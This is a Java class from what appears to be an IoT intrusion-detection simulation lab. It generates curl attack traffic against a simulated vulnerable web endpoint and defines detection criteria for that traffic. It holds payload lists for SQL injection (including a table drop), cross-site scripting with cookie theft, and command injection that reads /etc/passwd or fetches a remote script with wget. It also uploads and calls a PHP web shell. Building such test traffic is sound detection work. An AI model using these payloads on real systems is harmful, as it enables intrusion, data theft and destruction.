package io.iotwatch.sim.lab;

import io.iotwatch.sim.truth.AttackKind;
import java.time.Duration;
import java.util.List;
import java.util.stream.Collectors;

/**
 * curl against the victim's web endpoint ({@code vulnweb.py}), one request every half second, each payload
 * percent-encoded by curl as a browser would send it: SQL injection into the device search, script
 * injection into the greeting page, shell commands into the "ping" form (simulated by the endpoint, which only
 * shows what it would run), and a PHP web shell uploaded and then called.
 */
final class WebAttacks {

    static final List<String> SQL = List.of("' OR '1'='1", "' UNION SELECT name, password, 1 FROM users--",
            "cam' AND 1=1--", "'; DROP TABLE devices;--", "' UNION SELECT sqlite_version(), 1, 1--", "admin'--");
    static final List<String> SCRIPTS = List.of("<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>", "\"><script>fetch('/steal?c='+document.cookie)</script>",
            "<body onload=alert('xss')>");
    static final List<String> SHELL = List.of("10.77.0.1; cat /etc/passwd", "10.77.0.1 | id", "10.77.0.1 && uname -a",
            "$(wget -qO- http://10.77.0.66/x.sh)", "`whoami`");

    private WebAttacks() {}

    static AttackPlan plan(AttackKind kind, LabFiles files) {
        String attacker = Topology.ATTACKER.address();
        String victim = Topology.VICTIM.address();
        String base = "http://" + victim;
        return switch (kind) {
            case SQL_INJECTION -> requests(kind, base + "/search", "q", SQL, List.of("%27"));
            case XSS -> requests(kind, base + "/hello", "name", SCRIPTS, List.of("%3c"));
            case COMMAND_INJECTION -> requests(kind, base + "/ping", "host", SHELL, List.of("%3b", "%7c", "%26", "%24", "%60"));
            case UPLOADING -> AttackPlan.simple(kind, List.of(attacker), victim, List.of("curl"),
                    List.of(NsCommand.script(Topology.ATTACKER, Duration.ofSeconds(30), String.join("; ",
                            "curl -s -m 5 -o /dev/null -F " + Shell.quote("file=@" + files.webShell() + ";filename=shell.php")
                                    + " " + base + "/upload",
                            "sleep 1",
                            "curl -s -m 5 -o /dev/null " + Shell.quote(base + "/uploads/shell.php?cmd=id")))),
                    List.of(Criterion.count("uploads of shell.php from " + attacker + " to " + victim, 1,
                            p -> p.from(attacker) && p.to(victim) && p.payloadContains("filename=\"shell.php\""))));
            default -> throw new IllegalArgumentException(kind.id + " is no web attack");
        };
    }

    /**
     * One GET per payload in parameter {@code parameter} of {@code url}; the check looks for requests carrying
     * one of {@code markers}, the encoded characters the payloads need (curl writes hex digits in lower case).
     */
    private static AttackPlan requests(AttackKind kind, String url, String parameter, List<String> payloads,
            List<String> markers) {
        String attacker = Topology.ATTACKER.address();
        String victim = Topology.VICTIM.address();
        String script = payloads.stream()
                .map(payload -> "curl -s -m 5 -o /dev/null -G --data-urlencode " + Shell.quote(parameter + "=" + payload)
                        + " " + url)
                .collect(Collectors.joining("; sleep 0.5; "));
        return AttackPlan.simple(kind, List.of(attacker), victim, List.of("curl"),
                List.of(NsCommand.script(Topology.ATTACKER, Duration.ofSeconds(60), script)),
                List.of(Criterion.count("requests from " + attacker + " to " + url + " carrying " + String.join(" or ", markers),
                        payloads.size(), p -> p.from(attacker) && p.to(victim) && p.destinationPort() == 80
                                && p.payloadContains("?" + parameter + "=") && markers.stream().anyMatch(p::payloadContains))));
    }
}
